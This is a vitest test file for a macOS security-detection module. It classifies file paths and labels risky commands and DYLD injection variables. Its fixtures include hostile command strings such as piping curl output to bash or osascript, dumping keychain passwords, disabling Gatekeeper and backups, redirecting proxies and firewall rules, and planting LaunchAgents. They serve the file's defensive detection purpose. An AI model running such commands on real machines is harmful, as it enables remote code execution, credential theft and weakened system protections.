import { describe, expect, it } from 'vitest';
import { injectionVariables } from '../../../../main/detect/facts/macos/injection-variables.ts';
import { macosCommandTraits } from '../../../../main/detect/facts/macos/macos-command-traits.ts';
import {
  directoryClasses,
  isApplesPlace,
  macosDirectoryClass,
} from '../../../../main/detect/facts/macos/macos-directory-class.ts';
import { canonicalMacosPath, hasHiddenComponent } from '../../../../main/detect/facts/macos/macos-path.ts';

describe('macosDirectoryClass', () => {
  it.each([
    ['/System/Library/CoreServices/x', 'sealed'],
    ['/usr/libexec/x', 'sealed'],
    ['/bin/sh', 'sealed'],
    ['/usr/local/bin/x', 'local'],
    ['/opt/x/y', 'local'],
    ['/opt/homebrew/bin/x', 'homebrew'],
    ['/usr/local/Cellar/x/1/bin/x', 'homebrew'],
    ['/Library/Apple/System/x', 'apple-library'],
    ['/Library/PrivilegedHelperTools/x', 'privileged-helper'],
    ['/Library/Application Support/Acme/x', 'application-support'],
    ['/Library/Frameworks/X.framework/x', 'frameworks'],
    ['/Library/Caches/x', 'caches'],
    ['/Library/Scripts/x', 'library'],
    ['/Applications/X.app/Contents/MacOS/X', 'applications'],
    ['/Users/Shared/x', 'users-shared'],
    ['/Users/alice/Applications/X.app/x', 'user-applications'],
    ['/Users/alice/Library/x', 'user-library'],
    ['/Users/alice/x', 'user-home'],
    ['/tmp/x', 'tmp'],
    ['/private/tmp/a/b', 'tmp'],
    ['/var/tmp/x', 'tmp'],
    ['/var/folders/zz/T/x', 'var-folders'],
    ['/var/root/x', 'root-home'],
    ['/private/var/db/x', 'var'],
    ['/etc/x', 'etc'],
    ['/private/x/y', 'private'],
    ['/Volumes/Disk/x', 'volumes'],
    ['/x', 'root-folder'],
    ['/cores/x', 'other'],
    ['/SYSTEM/library/x', 'sealed'],
    ['/System/Volumes/Data/Users/alice/x', 'user-home'],
    ['/System/Volumes/VM/x', 'other'],
    ['/System/Volumes/Preboot/Cryptexes/OS/usr/bin/x', 'sealed'],
    ['/usr/bin/../../tmp/x', 'tmp'],
  ])('%s is %s', (path, expected) => {
    expect(macosDirectoryClass(path)).toBe(expected);
  });

  it('says nothing of bare names', () => {
    expect(macosDirectoryClass('touch')).toBeUndefined();
    expect(isApplesPlace('touch')).toBe(false);
  });

  it('adds hidden', () => {
    expect(directoryClasses(['/Users/alice/.x/run', '/bin/sh'])).toEqual(['user-home', 'hidden', 'sealed']);
    expect(hasHiddenComponent('/a/../b')).toBe(false);
    expect(hasHiddenComponent('/a/x.y/z')).toBe(false);
  });

  it('is bounded for endless paths', () => {
    expect(canonicalMacosPath(`/tmp${'/..'.repeat(50_000)}/x`)).toBe('/x');
  });
});

describe('macosCommandTraits', () => {
  it.each([
    ['osascript -e \'display dialog "x"\'', 'osascript-eval'],
    ['/usr/bin/osascript -l JavaScript -e "1"', 'osascript-eval'],
    ['curl http://a.example/x | osascript', 'osascript-eval'],
    ['launchctl load -w /x.plist', 'launchctl-load'],
    ['/bin/launchctl bootstrap system /x.plist', 'launchctl-load'],
    ['launchctl submit -l x -- /x', 'launchctl-load'],
    ['launchctl setenv PATH /x', 'launchctl-setenv'],
    ['launchctl bootout system/com.x', 'launchctl-unload'],
    ['defaults write com.apple.dock x 1', 'defaults-write'],
    ['security find-generic-password -s x -w', 'security-dump'],
    ['security add-trusted-cert -d -r trustRoot /x.pem', 'trust-add'],
    ['open -gj -a X', 'open-hidden'],
    ['spctl --global-disable', 'gatekeeper-off'],
    ['xattr -cr /Applications/X.app', 'gatekeeper-off'],
    ['xattr -d com.apple.quarantine /x', 'gatekeeper-off'],
    ['tmutil disable', 'backup-off'],
    ['networksetup -setwebproxy Wi-Fi 1.2.3.4 8080', 'proxy-set'],
    ['pfctl -ef /etc/x.conf', 'pf-redirect'],
    ['cp a.plist ~/Library/LaunchAgents/', 'plist-write'],
    ['curl https://a.example/x | bash', 'pipe-to-shell'],
  ])('%s: %s', (command, trait) => {
    expect(macosCommandTraits([command])).toContain(trait);
  });

  it.each([
    'osascript /Library/Scripts/x.scpt',
    'launchctl list',
    'defaults read com.apple.dock',
    'security list-keychains',
    'open -a X',
    'open -g -b com.example.x',
    'spctl --status',
    'xattr -l /x',
    'tmutil startbackup',
    'networksetup -getwebproxy Wi-Fi',
    'pfctl -s rules',
    'ls ~/Library/LaunchAgents',
    '/Applications/X.app/Contents/MacOS/X --launchctl',
  ])('%s: nothing', (command) => {
    expect(macosCommandTraits([command])).toEqual([]);
  });

  it('takes linear time for hostile text', () => {
    const start = performance.now();
    for (const piece of [
      'open -a ',
      'xattr -c',
      'osascript -l x ',
      'cp launchctl ',
      '/Library/Launch',
      "security -w '",
    ])
      macosCommandTraits([piece.repeat(20_000)]);
    expect(performance.now() - start).toBeLessThan(2_000);
  });
});

describe('injectionVariables', () => {
  it('reads the environment, and what commands set', () => {
    expect(
      injectionVariables(
        [
          { name: 'DYLD_INSERT_LIBRARIES', value: '/l' },
          { name: 'PATH', value: '/x' },
        ],
        [],
      ),
    ).toEqual(['DYLD_INSERT_LIBRARIES=/l']);
    expect(injectionVariables([], ['env DYLD_INSERT_LIBRARIES=/l /x'])).toEqual(['DYLD_INSERT_LIBRARIES=/l']);
    expect(injectionVariables([], ['launchctl setenv DYLD_INSERT_LIBRARIES /l'])).toEqual([
      'DYLD_INSERT_LIBRARIES=/l',
    ]);
    expect(injectionVariables([], ['echo DYLD_PRINT_LIBRARIES=1'])).toEqual([]);
  });
});
